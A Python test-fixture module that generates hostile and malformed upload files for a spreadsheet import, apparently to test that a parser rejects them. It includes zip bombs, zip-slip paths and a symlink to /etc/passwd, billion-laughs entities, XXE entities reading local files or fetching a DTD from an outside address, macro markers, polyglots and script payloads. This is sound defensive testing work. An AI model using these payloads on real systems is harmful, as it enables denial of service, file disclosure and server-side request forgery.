"""Files made to harm, or that are not what they say: made here when they are needed, none of them kept in the tree."""

import bz2
import gzip
import io
import struct
import tarfile
import zipfile
from collections.abc import Callable
from functools import cache, partial

import openpyxl
import xlwt

HEADER = ["STT", "Ngày giờ", "Họ tên người gọi"]
ROW = ["1", "10:00 05/02/2026", "Lê Một"]
SHEET, STRINGS, BOOK, TYPES = (
    "xl/worksheets/sheet1.xml",
    "xl/sharedStrings.xml",
    "xl/workbook.xml",
    "[Content_Types].xml",
)
COMPOUND = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
ZEROS = b"0" * 2**20


@cache
def good() -> bytes:
    """A small register as Excel saves it: what the others are spoilt from."""
    book, target = openpyxl.Workbook(), io.BytesIO()
    for row in (HEADER, ROW):
        book.active.append(row)
    book.save(target)
    return target.getvalue()


def zipped(members: dict[str, bytes], kind: int = zipfile.ZIP_DEFLATED) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", kind) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return target.getvalue()


def parts(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def spoilt(**changed: bytes) -> bytes:
    """The register with these parts in place of its own; names as `SHEET=…` in capitals of this module."""
    return zipped(parts(good()) | {globals()[name]: content for name, content in changed.items()})


def added(name: str, content: bytes = b"x", times: int = 1, size: int = 1) -> bytes:
    """The register with more members; `{}` in the name is their number, `size` how often the content repeats."""
    target = io.BytesIO(good())
    with zipfile.ZipFile(target, "a", zipfile.ZIP_DEFLATED) as archive:
        for number in range(times):
            with archive.open(name.format(number), "w") as member:
                for _ in range(size):
                    member.write(content)
    return target.getvalue()


def with_entities(part: str, entities: str, encoding: str = "utf-8") -> bytes:
    """A document type with entities in front of a part, and one of them used."""
    text = parts(good()).get(part, b"<sst>a</sst>").decode()
    text = text.partition("?>")[2] if text.startswith("<?xml") else text
    name = text.split("<", 1)[1].split(" ")[0].split(">")[0]
    declared = f'<?xml version="1.0" encoding="{encoding}"?><!DOCTYPE {name} [{entities}]>'
    return zipped(parts(good()) | {part: (declared + text.replace("STT", "&z;")).encode(encoding)})


LAUGHS = "".join(f'<!ENTITY {new} "{f"&{old};" * 10}">' for old, new in zip("abcdefghy", "bcdefghyz", strict=True))
LAUGHS = '<!ENTITY a "ha">' + LAUGHS
QUADRATIC = f'<!ENTITY z "{"a" * 100_000}">'
OUTSIDE = '<!ENTITY z SYSTEM "file:///etc/passwd">'
CALLED = '<!ENTITY z SYSTEM "http://198.51.100.7/a">'
PARAMETER = '<!ENTITY % p SYSTEM "http://198.51.100.7/a.dtd"> %p;'


def linked() -> bytes:
    """A symbolic link among the members."""
    link = zipfile.ZipInfo("xl/media/a")
    link.create_system, link.external_attr = 3, (0o120777 << 16)
    target = io.BytesIO(good())
    with zipfile.ZipFile(target, "a") as archive:
        archive.writestr(link, "/etc/passwd")
    return target.getvalue()


def overlapping(times: int = 300) -> bytes:
    """The same megabyte under many names: the directory points to one place again and again."""
    content = zipped({"a.xml": ZEROS})
    start = content.index(b"PK\x01\x02")
    end = content.index(b"PK\x05\x06")
    entry = content[start:end]
    names = [f"{number:05d}" for number in range(times)]
    listed = b"".join(entry.replace(b"a.xml", name.encode()) for name in names)
    finish = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, times, times, len(listed), start, 0)
    return content[:start] + listed + finish


def lying() -> bytes:
    """The directory says that a member is small."""
    content = bytearray(added("xl/media/a.bin", ZEROS, size=70))
    at = content.rindex(b"PK\x01\x02")
    content[at + 24 : at + 28] = struct.pack("<L", 10)
    return bytes(content)


def locked_member() -> bytes:
    content = bytearray(good())
    at = content.index(b"PK\x01\x02")
    content[at + 8] |= 1
    return bytes(content)


def twice() -> bytes:
    """Two first sheets: one programme reads the one, another the other."""
    target = io.BytesIO(good())
    with zipfile.ZipFile(target, "a") as archive:
        archive.writestr(SHEET.replace("sheet1", "SHEET1"), parts(good())[SHEET])
    return target.getvalue()


def wrong_sum() -> bytes:
    content = bytearray(zipped(parts(good()), zipfile.ZIP_STORED))
    at = content.index(b"STT")
    content[at] ^= 0xFF
    return bytes(content)


def typed(kind: bytes) -> bytes:
    """The list of parts calls the workbook something else."""
    plain = b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    return spoilt(TYPES=parts(good())[TYPES].replace(plain, kind))


def cells(inside: str) -> bytes:
    whole = parts(good())[SHEET].decode()
    before, _, rest = whole.partition("<sheetData>")
    return spoilt(SHEET=f"{before}<sheetData>{inside}{rest.partition('</sheetData>')[1]}{rest[-400:]}".encode())


def word(**more: bytes) -> bytes:
    import docx

    target = io.BytesIO()
    docx.Document().save(target)
    return zipped(parts(target.getvalue()) | {name.replace("__", "/"): content for name, content in more.items()})


def old(far: bool = False) -> bytes:
    """The register as Excel 97 saves it, `far` with one cell at the other end of the sheet."""
    book, target = xlwt.Workbook(), io.BytesIO()
    sheet = book.add_sheet("Sổ")
    for number, row in enumerate((HEADER, ROW)):
        for column, value in enumerate(row):
            sheet.write(number, column, value)
    if far:
        sheet.write(65_535, 255, "x")
    book.save(target)
    return target.getvalue()


def old_macros() -> bytes:
    """A sheet of Excel 4 macros: the record that lists it says so."""
    content = bytearray(old())
    at = content.index(struct.pack("<H", 0x85), 512)
    content[at + 9] = 1
    return bytes(content)


def old_ring() -> bytes:
    """A table of sectors whose chain never ends."""
    content = bytearray(old())
    table = (struct.unpack_from("<I", content, 76)[0] + 1) * 512
    content[table : table + 512] = struct.pack("<128I", *([0] * 128))
    return bytes(content)


def tape() -> bytes:
    target = io.BytesIO()
    with tarfile.open(fileobj=target, mode="w") as archive:
        found = tarfile.TarInfo("../../a")
        found.size = 1
        archive.addfile(found, io.BytesIO(b"x"))
    return target.getvalue()


def picture(wide: int = 50_000) -> bytes:
    head = struct.pack(">II5B", wide, wide, 8, 6, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + b"IHDR" + head + b"\0" * 64


EICAR = "X5O!P%@AP[4" + r"\PZX54(P^)7CC)7}$EIC" + "AR-STANDARD-ANTIV" + "IRUS-TEST-FILE!$H+H*"
MACRO_BOOK = b"application/vnd.ms-excel.sheet.macroEnabled.main+xml"
FAR = '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
ARRAY = '<row r="1"><c r="A1"><f t="array" ref="A1:XFD1048576">1</f><v>1</v></c></row>'

HARMFUL: dict[str, Callable[[], bytes]] = {
    "bomb.xlsx": partial(added, "xl/worksheets/sheet9.xml", ZEROS, 1, 70),
    "picture-bomb.xlsx": partial(added, "xl/media/a.png", ZEROS, 1, 70),
    "many-bombs.xlsx": partial(added, "xl/media/{}.bin", ZEROS, 35, 2),
    "many-members.xlsx": partial(added, "xl/media/{}.bin", b"x", 2_001),
    "overlapping.xlsx": overlapping,
    "lying.xlsx": lying,
    "zip-in-zip.xlsx": lambda: zipped({"a.zip": added("xl/media/a.bin", ZEROS, 1, 70)}),
    "locked-member.xlsx": locked_member,
    "bzip2.xlsx": lambda: zipped(parts(good()), zipfile.ZIP_BZIP2),
    "lzma.xlsx": lambda: zipped(parts(good()), zipfile.ZIP_LZMA),
    "climbing.xlsx": partial(added, "../../evil.txt"),
    "climbing-windows.xlsx": partial(added, r"..\..\evil.txt"),
    "link.xlsx": linked,
    "twice.xlsx": twice,
    "two-archives.xlsx": lambda: zipped({"a.txt": b"a"}) + good(),
    "cut.xlsx": lambda: good()[: len(good()) // 2],
    "no-end.xlsx": lambda: good()[:-22],
    "wrong-sum.xlsx": wrong_sum,
    "laughs-sheet.xlsx": partial(with_entities, SHEET, LAUGHS),
    "laughs-strings.xlsx": partial(with_entities, STRINGS, LAUGHS),
    "laughs-utf16.xlsx": partial(with_entities, SHEET, LAUGHS, "utf-16"),
    "quadratic.xlsx": partial(with_entities, STRINGS, QUADRATIC),
    "file-entity.xlsx": partial(with_entities, STRINGS, OUTSIDE),
    "file-entity-book.xlsx": partial(with_entities, BOOK, OUTSIDE),
    "address-entity.xlsx": partial(with_entities, TYPES, CALLED),
    "parameter-entity.xlsx": partial(with_entities, "xl/styles.xml", PARAMETER),
    "entity-links.xlsx": partial(with_entities, "xl/_rels/workbook.xml.rels", OUTSIDE),
    "deep.xlsx": lambda: cells("<a>" * 2_000_000),
    "macros.xlsm": partial(added, "xl/vbaProject.bin", COMPOUND),
    "macros.xlsx": partial(added, "XL/VBAPROJECT.BIN", COMPOUND),
    "macros-by-type.xlsx": partial(typed, MACRO_BOOK),
    "excel4-macros.xlsx": partial(added, "xl/macrosheets/sheet1.xml", b"<a/>"),
    "controls.xlsx": partial(added, "xl/activeX/activeX1.xml", b"<a/>"),
    "macros.docm": partial(word, word__vbaProject=COMPOUND),
    "word.xlsx": word,
    "program.xlsx": lambda: zipped({"META-INF/MANIFEST.MF": b"Main-Class: A", "A.class": b"\xca\xfe\xba\xbe"}),
    "far-cell.xlsx": partial(cells, FAR),
    "far-array.xlsx": partial(cells, ARRAY),
    "far-cell.xls": partial(old, True),
    "excel4-macros.xls": old_macros,
    "macros.xls": lambda: COMPOUND + b"\0" * 600 + "_VBA_PROJECT".encode("utf-16-le") + b"\0" * 400,
    "ring.xls": old_ring,
    "cut.xls": lambda: old()[:1500],
    "locked.xlsx": lambda: COMPOUND + b"\0" * 512 + "EncryptedPackage".encode("utf-16-le") + b"\0" * 512,
    "page.xls": lambda: "<html><table><tr><td>Ngày</td></tr></table><script>alert(1)</script>".encode(),
    "drawing.csv": lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "picture.xlsx": picture,
    "picture.csv": picture,
    "pdf-and-zip.xlsx": lambda: b"%PDF-1.7\n" + good(),
    "gif-and-zip.xlsx": lambda: b"GIF89a\x01\x00\x01\x00\x00\x00\x00;" + good(),
    "program.exe.xlsx": lambda: b"MZ" + b"\0" * 200 + good(),
    "program.csv": lambda: b"\x7fELF\x02\x01\x01" + b"\0" * 200,
    "text.csv": lambda: b"{\\rtf1 a}",
    "packed.csv": lambda: gzip.compress(",".join(HEADER).encode()),
    "packed-bz2.csv": lambda: bz2.compress(",".join(HEADER).encode()),
    "tape.csv": tape,
    "virus.csv": EICAR.encode,
    "zeros.csv": lambda: b"\0" * 4096,
    "noise.csv": lambda: bytes(range(128, 256)) * 64,
    "noise.xlsx": lambda: bytes(range(256)) * 64,
    "only-space.csv": lambda: b"   \r\n \r\n",
    "many-columns.csv": lambda: b"a," * 200_000,
    "open-quote.csv": lambda: 'Ngày,Tên\n"'.encode() + b"x" * 200_000,
    "half-utf16.csv": lambda: "\ufeffNgày,Tên".encode("utf-16-le") + b"\x00",
    "tcvn3.csv": lambda: b"Ng\xb5y,H\xe4 t\xaan\n1,\xb6\xad\xfe\xdc\x9d\x8f\n",
}
